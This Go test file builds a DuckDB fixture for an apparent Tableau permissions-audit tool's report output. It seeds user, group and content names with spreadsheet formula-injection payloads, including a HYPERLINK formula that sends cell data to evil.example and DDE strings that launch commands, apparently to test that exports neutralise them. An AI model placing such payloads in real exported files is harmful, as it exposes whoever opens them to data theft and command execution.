package reports

import (
	"database/sql"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	_ "github.com/duckdb/duckdb-go/v2"

	"github.com/tabaudit/tabaudit/extract/snapshot"
)

const dsn = "?autoinstall_known_extensions=false&autoload_known_extensions=false"

func openDB(t testing.TB) *sql.DB {
	t.Helper()
	db, err := sql.Open("duckdb", dsn)
	if err != nil {
		t.Fatal(err)
	}
	db.SetMaxOpenConns(1) // one in-memory database per test
	t.Cleanup(func() { db.Close() })
	return db
}

func execAll(t testing.TB, db *sql.DB, stmts ...string) {
	t.Helper()
	for _, s := range stmts {
		if _, err := db.Exec(s); err != nil {
			t.Fatalf("%v\n%s", err, s)
		}
	}
}

// snapshotDDL creates the catalogue's tables exactly as declared.
func snapshotDDL() []string {
	types := map[snapshot.Type]string{snapshot.String: "VARCHAR", snapshot.Int64: "BIGINT", snapshot.Bool: "BOOLEAN",
		snapshot.Timestamp: "TIMESTAMPTZ", snapshot.StringList: "VARCHAR[]", snapshot.Float64: "DOUBLE"}
	var out []string
	for _, t := range snapshot.Tables {
		var cols []string
		for _, c := range t.Columns {
			cols = append(cols, c.Name+" "+types[c.Type])
		}
		out = append(out, fmt.Sprintf("CREATE TABLE %s (%s)", t.Name, strings.Join(cols, ", ")))
	}
	return out
}

// Hostile names: each starts with a character a spreadsheet may evaluate.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"click")`,
	`+cmd|' /C calc'!A0`,
	`-1+1`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+2",
	"\r=3+4",
}

func manifestJSON(t testing.TB, complete bool) string {
	m := snapshot.Manifest{
		SchemaVersion: 1, ToolVersion: "test", SnapshotID: "acme/20260101T000000Z", ServerURL: "https://tableau.example",
		Product: "2025.1.0", RESTVersion: "3.25", SiteID: "site-luid", SiteContentURL: "acme", SiteName: "Acme",
		SignedInUser: "u-admin", SignedInUserName: "svc-audit", SignedInRole: "SiteAdministratorCreator", AuthMethod: "pat",
		StartedAt: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), FinishedAt: time.Date(2026, 1, 1, 0, 5, 0, 0, time.UTC),
		Tables:   map[string]snapshot.TableStats{"users": {Rows: 9, TotalAvailable: 9, Requests: 1, Complete: true}},
		Requests: 42, Retries: 1, Lineage: "skipped", Complete: complete,
	}
	if !complete {
		m.Failures = []snapshot.Failure{{Method: "GET", Path: "/api/3.25/sites/x/workbooks/w1/permissions", Entity: "permissions of workbook w1", StatusCode: 500, Error: "internal"}}
		m.Incomplete = []string{"1 request failed"}
		m.Tables["permission_rules"] = snapshot.TableStats{Rows: 10, TotalAvailable: -1, Requests: 5, Complete: false}
	}
	b, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func sqlString(s string) string { return "'" + strings.ReplaceAll(s, "'", "''") + "'" }

// buildFixture creates a small model by hand with the contract's relations:
// the snapshot tables, content, effective_permissions, model_findings and,
// when checked, the rules stage's findings tables.
func buildFixture(t testing.TB, db *sql.DB, checked bool) {
	t.Helper()
	execAll(t, db, snapshotDDL()...)
	execAll(t, db,
		`CREATE TABLE snapshot_info (snapshot_id VARCHAR, site_content_url VARCHAR, site_name VARCHAR, server_url VARCHAR,
		  started_at TIMESTAMPTZ, finished_at TIMESTAMPTZ, complete BOOLEAN, allowed_incomplete BOOLEAN,
		  manifest_json VARCHAR, tool_version VARCHAR, spec_version VARCHAR, ceiling_version VARCHAR,
		  engine_version VARCHAR, dir VARCHAR, lineage_loaded BOOLEAN, is_current BOOLEAN)`,
		`INSERT INTO snapshot_info VALUES ('acme/20260101T000000Z', 'acme', 'Acme', 'https://tableau.example',
		  '2026-01-01 00:00:00+00', '2026-01-01 00:05:00+00', true, false, `+sqlString(manifestJSON(t, true))+`,
		  'test', 'permission-semantics/v2', 'ceilings/1', 'tabaudit-sql/1', '/snap', false, true)`,
	)
	// Users u0..u5 carry hostile names; ana and ben are plain.
	var stmts []string
	users := []string{"ana", "ben", "cy"}
	for i, h := range hostile {
		stmts = append(stmts, fmt.Sprintf(`INSERT INTO users (id, name, full_name, email, site_role) VALUES ('u%d', %s, %s, 'u%d@example.com', 'Viewer')`,
			i, sqlString(h), sqlString("Full "+h), i))
	}
	for _, u := range users {
		stmts = append(stmts, fmt.Sprintf(`INSERT INTO users (id, name, full_name, email, site_role, last_login) VALUES ('%s', '%s', '%s', '%s@example.com', 'Explorer', '2025-12-01 10:00:00+00')`, u, u, strings.ToUpper(u), u))
	}
	stmts = append(stmts,
		`INSERT INTO groups (id, name, domain_name, is_all_users) VALUES ('g-all', 'All Users', 'local', true), ('g0', `+sqlString(hostile[0])+`, 'local', false), ('g1', `+sqlString(hostile[3])+`, 'local', false), ('g-fin', 'Finance | Analysts', 'local', false)`,
		`INSERT INTO group_members SELECT 'g-all', id FROM users`,
		`INSERT INTO group_members VALUES ('g0', 'u0'), ('g1', 'u1'), ('g-fin', 'ana')`,
		`INSERT INTO projects (id, name, owner_id, content_permissions) VALUES ('p0', `+sqlString(hostile[1])+`, 'ana', 'ManagedByOwner'), ('p1', 'Finance', 'ana', 'LockedToProject')`,
		`INSERT INTO workbooks (id, name, project_id, owner_id, show_tabs, tags) VALUES ('w0', `+sqlString(hostile[2])+`, 'p0', 'ben', true, ['=tag']), ('w1', 'Budget', 'p1', 'ana', false, ['confidential'])`,
		`INSERT INTO views (id, name, workbook_id, project_id, owner_id, sheet_type, hidden) VALUES ('v0', `+sqlString(hostile[4])+`, 'w0', 'p0', 'ben', 'worksheet', false), ('v1', 'Summary', 'w1', 'p1', 'ana', 'dashboard', false)`,
		`INSERT INTO datasources (id, name, project_id, owner_id, type) VALUES ('d1', 'Ledger', 'p1', 'ana', 'postgres')`,
		`CREATE TABLE content AS SELECT * FROM (VALUES
		  ('project', 'p0', `+sqlString(hostile[1])+`, NULL, `+sqlString(hostile[1])+`, 'ana', []::VARCHAR[]),
		  ('project', 'p1', 'Finance', NULL, 'Finance', 'ana', []::VARCHAR[]),
		  ('workbook', 'w0', `+sqlString(hostile[2])+`, 'p0', `+sqlString(hostile[1])+`, 'ben', ['=tag']),
		  ('workbook', 'w1', 'Budget', 'p1', 'Finance', 'ana', ['confidential']),
		  ('view', 'v0', `+sqlString(hostile[4])+`, 'p0', `+sqlString(hostile[1])+`, 'ben', []::VARCHAR[]),
		  ('view', 'v1', 'Summary', 'p1', 'Finance', 'ana', []::VARCHAR[]),
		  ('datasource', 'd1', 'Ledger', 'p1', 'Finance', 'ana', []::VARCHAR[])
		) c(content_type, content_id, name, project_id, project_path, owner_id, tags)`,
		`CREATE TABLE effective_permissions (user_id VARCHAR, user_name VARCHAR, content_type VARCHAR, content_id VARCHAR,
		  content_name VARCHAR, project_id VARCHAR, project_path VARCHAR, capability VARCHAR, decision VARCHAR, reason VARCHAR,
		  deciding_rule VARCHAR, basis VARCHAR, flags VARCHAR[], confidence VARCHAR)`,
		// Every user reads every workbook through All Users; ana also exports Budget; ben is denied Budget Write.
		`INSERT INTO effective_permissions
		  SELECT u.id, u.name, c.content_type, c.content_id, c.name, c.project_id, c.project_path, cap, 'allow', 'GROUP_ALLOW',
		         'workbook:' || c.content_id || ' group:g-all Allow', 'current', [], 'D'
		  FROM users u, content c, (VALUES ('Read'), ('Filter')) caps(cap) WHERE c.content_type = 'workbook'`,
		`INSERT INTO effective_permissions VALUES
		  ('ana', 'ana', 'workbook', 'w1', 'Budget', 'p1', 'Finance', 'ExportData', 'allow', 'CONTENT_OWNER', 'position:content_owner:w1', 'current', [], 'D'),
		  ('ben', 'ben', 'workbook', 'w1', 'Budget', 'p1', 'Finance', 'Write', 'deny', 'GROUP_DENY', 'workbook:w1 group:g-fin Deny', 'current', [], 'D'),
		  ('cy', 'cy', 'workbook', 'w1', 'Budget', 'p1', 'Finance', 'Write', 'allow', 'GROUP_ALLOW', 'x', 'projected', [], 'T')`,
		`CREATE TABLE model_findings (code VARCHAR, object_type VARCHAR, object_id VARCHAR, detail VARCHAR)`,
		`INSERT INTO model_findings VALUES ('ALL_USERS_HAS_ALLOWS', 'workbook', 'w0', 'All Users holds Read'), ('ORPHAN_OWNER', 'project', 'p0', '=owner gone')`,
	)
	execAll(t, db, stmts...)
	if !checked {
		return
	}
	execAll(t, db,
		`CREATE TABLE findings (finding_id VARCHAR, kind VARCHAR, check_id VARCHAR, rule_id VARCHAR, severity VARCHAR,
		  status VARCHAR, user_id VARCHAR, user_name VARCHAR, content_type VARCHAR, content_id VARCHAR, content_name VARCHAR,
		  project_path VARCHAR, capability VARCHAR, decision VARCHAR, reason VARCHAR, deciding_rule VARCHAR, waiver_id VARCHAR,
		  waiver_until DATE, confidence VARCHAR, cause_id VARCHAR, message VARCHAR, snapshot_id VARCHAR, matrix_file VARCHAR,
		  matrix_line INTEGER)`,
		// One excess finding per hostile user on the hostile workbook, plus a
		// forbidden, a waived and a hygiene finding.
		`INSERT INTO findings SELECT 'f-' || u.id, 'excess', NULL, 'finance-viewers', 'high', 'violation', u.id, u.name,
		  'workbook', 'w0', `+sqlString(hostile[2])+`, `+sqlString(hostile[1])+`, 'Read', 'allow', 'GROUP_ALLOW',
		  'workbook:w0 group:g-all Allow', NULL, NULL, 'D', 'c1', 'holds Read not granted by the matrix', 'acme/20260101T000000Z',
		  'policy.yaml', 4 FROM users u WHERE u.id LIKE 'u%'`,
		`INSERT INTO findings VALUES
		  ('f-x1', 'forbidden', NULL, 'no-downloads', 'critical', 'violation', 'ana', 'ana', 'workbook', 'w1', 'Budget', 'Finance',
		   'ExportData', 'allow', 'CONTENT_OWNER', 'position:content_owner:w1', NULL, NULL, 'D', 'c2', 'may download | export', 'acme/20260101T000000Z', 'policy.yaml', 12),
		  ('f-w1', 'waiver', NULL, 'finance-viewers', 'info', 'waived', 'cy', 'cy', 'workbook', 'w1', 'Budget', 'Finance',
		   'Read', 'allow', 'GROUP_ALLOW', 'workbook:w1 group:g-all Allow', 'w-1', '2027-03-31', 'D', 'c1', 'waived: external audit', 'acme/20260101T000000Z', 'policy.yaml', 30),
		  ('f-h1', 'hygiene', 'all-users-grants', NULL, 'medium', 'needs_review', NULL, NULL, 'workbook', 'w0', `+sqlString(hostile[2])+`, `+sqlString(hostile[1])+`,
		   'Read', 'allow', 'GROUP_ALLOW', 'workbook:w0 group:g-all Allow', NULL, NULL, 'I', 'c3', 'All Users grants Read', 'acme/20260101T000000Z', NULL, NULL)`,
		`CREATE TABLE finding_causes (cause_id VARCHAR, kind VARCHAR, rule_id VARCHAR, check_id VARCHAR, severity VARCHAR,
		  description VARCHAR, grantee VARCHAR, item_count BIGINT, user_count BIGINT, finding_count BIGINT)`,
		`INSERT INTO finding_causes VALUES
		  ('c1', 'excess', 'finance-viewers', NULL, 'high', 'group All Users grants Read on 1 item', `+sqlString(hostile[0])+`, 1, 6, 7),
		  ('c2', 'forbidden', 'no-downloads', NULL, 'critical', 'owner of Budget may ExportData', 'user:ana', 1, 1, 1),
		  ('c3', 'hygiene', NULL, 'all-users-grants', 'medium', 'All Users grants', 'group:All Users', 1, 9, 1)`,
		`CREATE TABLE check_runs (run_id VARCHAR, snapshot_id VARCHAR, matrix_name VARCHAR, matrix_file VARCHAR,
		  matrix_sha256 VARCHAR, started_at TIMESTAMPTZ, fail_on VARCHAR, findings BIGINT, violations BIGINT)`,
		`INSERT INTO check_runs VALUES ('run-1', 'acme/20260101T000000Z', 'FY26-Q4 access policy', 'policy.yaml', 'abc123',
		  '2026-01-02 09:00:00+00', 'high', 9, 7)`,
		`CREATE TABLE policy_rules (rule_id VARCHAR, scope VARCHAR, grantee VARCHAR, allow VARCHAR[], exclusive BOOLEAN, matrix_line INTEGER)`,
		`INSERT INTO policy_rules VALUES ('finance-viewers', 'project: Finance/**', 'group:Finance | Analysts', ['Read', 'Filter'], true, 4),
		  ('no-downloads', 'tag: confidential', NULL, NULL, false, 12)`,
		`CREATE TABLE policy_waivers (waiver_id VARCHAR, rule_id VARCHAR, user_name VARCHAR, until DATE, reason VARCHAR)`,
		`INSERT INTO policy_waivers VALUES ('w-1', 'finance-viewers', 'cy', '2027-03-31', 'external audit')`,
	)
}
